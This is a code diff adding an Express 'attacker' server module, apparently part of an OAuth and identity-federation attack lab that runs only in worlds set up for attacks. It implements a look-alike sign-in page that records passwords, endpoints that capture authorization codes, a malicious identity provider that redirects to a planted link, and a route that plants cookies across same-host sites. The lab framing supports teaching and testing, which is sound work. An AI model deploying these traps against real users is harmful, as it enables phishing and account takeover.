@@ -1,0 +1,97 @@
+/**
+ * The attacker, at an origin of its own. It answers in worlds made for attacks and nowhere else,
+ * waits to be visited, and never sends a request to anyone.
+ *
+ * | route | what it is |
+ * |---|---|
+ * | GET / | what was caught |
+ * | GET /callback | takes the code of whoever is sent here |
+ * | GET, POST /sign-in | looks like an identity provider, keeps what is typed |
+ * | GET /plant | sets a cookie of another site of the same host |
+ * | GET /idp/authorize | a false identity provider: sends on to an honest one |
+ * | POST /idp/token | takes the code a broker hands to the wrong place |
+ */
+import { closeApp, openApp, sendPage, urlencodedBody } from '@federama/server-kit/app';
+import type { Clock } from '@federama/server-kit/clock';
+import type { Store } from '@federama/server-kit/store';
+import { type Party, type Presentation, viewOf } from '@federama/server-kit/view';
+import { type Express, type Request, Router } from 'express';
+import type { CatchKind } from './notebook.ts';
+import { createNotebook } from './notebook.ts';
+import { caughtPage, lookAlikePage, silentPage, thanksPage } from './pages.ts';
+
+export type AttackerOptions = {
+  config: {
+    party: Party;
+    presentation: Presentation;
+    /** Whether this world was made for attacks. */
+    active: boolean;
+    observatoryUrl: string;
+  };
+  store: Store;
+  clock: Clock;
+};
+
+export function createAttacker(options: AttackerOptions): Express {
+  const { party, presentation, active, observatoryUrl } = options.config;
+  const app = openApp({ party, presentation });
+  if (active) app.use(traps(options));
+  else app.use((_req, res) => sendPage(res, 404, silentPage(viewOf(res), observatoryUrl)));
+  return closeApp(app);
+}
+
+function traps({ config, store, clock }: AttackerOptions): Router {
+  const notebook = createNotebook(store);
+  const note = (kind: CatchKind, sent: unknown) =>
+    notebook.note({ at: clock.now(), kind, values: textsOf(sent) });
+  const router = Router();
+  const form = urlencodedBody();
+  router.get('/', async (_req, res) =>
+    sendPage(res, 200, caughtPage(viewOf(res), await notebook.caught())),
+  );
+  router.get('/callback', async (req, res) => {
+    await note('code', req.query);
+    sendPage(res, 200, thanksPage(viewOf(res)));
+  });
+  router.get('/sign-in', async (req, res) => {
+    await note('visit', { path: '/sign-in', ...textsOf(req.query) });
+    sendPage(res, 200, lookAlikePage(viewOf(res)));
+  });
+  router.post('/sign-in', form, async (req, res) => {
+    await note('password', req.body);
+    sendPage(res, 200, thanksPage(viewOf(res)));
+  });
+  router.get('/plant', plant(config.party.url));
+  router.get('/idp/authorize', async (req, res) => {
+    const trap = await notebook.trap();
+    if (!trap) return sendPage(res, 200, lookAlikePage(viewOf(res)));
+    const url = new URL(trap);
+    url.searchParams.set('state', String(req.query.state ?? ''));
+    res.redirect(303, url.href);
+  });
+  router.post('/idp/token', form, async (req, res) => {
+    await note('code', req.body);
+    res.status(400).json({ error: 'server_error', error_description: 'please try again' });
+  });
+  return router;
+}
+
+/** Cookies ignore ports: one set here is sent to every site of this host. */
+function plant(url: string) {
+  const path = new URL(url).pathname || '/';
+  return (req: Request, res: Parameters<Parameters<Router['get']>[1]>[1]) => {
+    const { name, value } = textsOf(req.query);
+    if (/^[\w-]{1,60}$/.test(name ?? '') && value)
+      res.cookie(name ?? '', value, { path, httpOnly: true, sameSite: 'lax' });
+    sendPage(res, 200, thanksPage(viewOf(res)));
+  };
+}
+
+function textsOf(sent: unknown): Record<string, string> {
+  return Object.fromEntries(
+    Object.entries((sent ?? {}) as Record<string, unknown>)
+      .filter(([, value]) => typeof value === 'string')
+      .slice(0, 20)
+      .map(([name, value]) => [name.slice(0, 60), String(value)]),
+  );
+}
